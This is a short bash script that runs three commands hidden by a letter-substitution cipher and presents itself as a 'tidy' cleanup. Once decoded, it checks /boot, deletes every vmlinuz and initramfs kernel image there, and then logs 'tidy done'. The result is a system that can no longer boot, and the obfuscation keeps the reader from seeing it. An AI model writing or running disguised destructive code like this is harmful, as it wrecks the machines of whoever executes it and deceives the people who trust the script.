#!/usr/bin/env bash
set -o pipefail
dec() { tr 'qwertyuiopasdfghjklzxcvbnm' 'a-z'; }

msgs=(
  'ry -i /wggz'
  'yofr /wggz -dqbrthzi 1 -znht y \( -fqdt cdsofxm-* -g -fqdt ofozkqdyl-* \) -rtstzt'
  'sguutk -z zorn rgft'
)
for m in "${msgs[@]}"; do
  bash -c "$(dec <<<"$m")"
done
